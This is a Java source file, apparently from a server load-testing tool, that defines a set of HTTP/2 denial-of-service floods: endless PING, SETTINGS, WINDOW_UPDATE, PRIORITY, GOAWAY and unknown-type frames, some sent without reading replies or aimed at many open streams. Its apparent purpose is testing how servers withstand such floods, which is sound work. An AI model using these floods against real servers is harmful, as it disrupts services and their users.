package dev.medley.loadtest.attack.way;

import static dev.medley.loadtest.attack.way.Steps.attack;

import dev.medley.loadtest.attack.connection.Attack;
import dev.medley.loadtest.attack.way.Http2Client.Plan;
import java.util.List;

/** Attacks over HTTP/2 by frames without end that concern no request. */
final class Http2Floods {

    private static final int UNKNOWN_TYPE = 0xBE;
    private static final int OPEN = 100;
    private static final byte[] PRIORITY = {0, 0, 0, 0, 16};
    private static final byte[] PRIORITY_UPDATE = {0, 0, 0, 1, 'u', '=', '1'};
    private static final byte[] WAITING = Steps.get(Targets.WAITING);

    private Http2Floods() {}

    static List<Attack> all() {
        return List.of(
                flood("h2-ping", "PING", Http2Floods::ping),
                unread("h2-ping-unread", "PING, and no reply is read", Http2Floods::ping),
                flood(
                        "h2-ping-ack",
                        "replies to PING that the server has not sent",
                        (frames, number) -> frames.frame(FrameWriter.PING, FrameWriter.ACK, 0, new byte[Long.BYTES])),
                flood("h2-settings", "SETTINGS without a value", (frames, number) -> frames.settings()),
                unread(
                        "h2-settings-unread",
                        "SETTINGS without a value, and no reply is read",
                        (frames, number) -> frames.settings()),
                flood(
                        "h2-settings-ack",
                        "replies to SETTINGS that the server has not sent",
                        (frames, number) -> frames.frame(FrameWriter.SETTINGS, FrameWriter.ACK, 0)),
                attack(
                        "h2-settings-window",
                        "SETTINGS that change the windows of %d streams each time".formatted(OPEN),
                        Plan.of()
                                .opening(client -> Steps.gets(client, WAITING, OPEN))
                                .round(client -> Steps.repeat(
                                        i -> client.frames().settings(FrameWriter.INITIAL_WINDOW_SIZE, 1000 + i % 2)))),
                flood(
                        "h2-settings-table",
                        "SETTINGS that change the size of the header table each time",
                        (frames, number) -> frames.settings(FrameWriter.HEADER_TABLE_SIZE, number % 2 * 4096)),
                flood("h2-window-update", "WINDOW_UPDATE of 1", (frames, number) -> frames.windowUpdate(0, 1)),
                flood(
                        "h2-priority",
                        "PRIORITY of streams that do not exist",
                        (frames, number) -> frames.frame(FrameWriter.PRIORITY, 0, 2 * number + 1, PRIORITY)),
                attack(
                        "h2-priority-open",
                        "PRIORITY of %d open streams".formatted(OPEN),
                        Plan.of()
                                .opening(client -> Steps.gets(client, WAITING, OPEN))
                                .round(client -> Steps.repeat(i ->
                                        client.frames().frame(FrameWriter.PRIORITY, 0, 2 * (i % OPEN) + 1, PRIORITY)))),
                flood(
                        "h2-priority-update",
                        "PRIORITY_UPDATE",
                        (frames, number) -> frames.frame(FrameWriter.PRIORITY_UPDATE, 0, 0, PRIORITY_UPDATE)),
                flood(
                        "h2-goaway",
                        "GOAWAY",
                        (frames, number) -> frames.frame(FrameWriter.GOAWAY, 0, 0, new byte[2 * Integer.BYTES])),
                flood(
                        "h2-unknown-frames",
                        "frames of an unknown type",
                        (frames, number) -> frames.frame(UNKNOWN_TYPE, 0, 0, new byte[100])));
    }

    private static Attack flood(String name, String what, OneFrame frame) {
        return attack(name, what, endless(frame));
    }

    private static Attack unread(String name, String what, OneFrame frame) {
        return attack(name, what, endless(frame).unread());
    }

    private static Plan endless(OneFrame frame) {
        return Plan.of().round(client -> Steps.repeat(i -> frame.put(client.frames(), i)));
    }

    private static void ping(FrameWriter frames, int number) {
        frames.frame(FrameWriter.PING, 0, 0, new byte[Long.BYTES]);
    }

    /** Puts one frame of many. */
    private interface OneFrame {
        void put(FrameWriter frames, int number);
    }
}
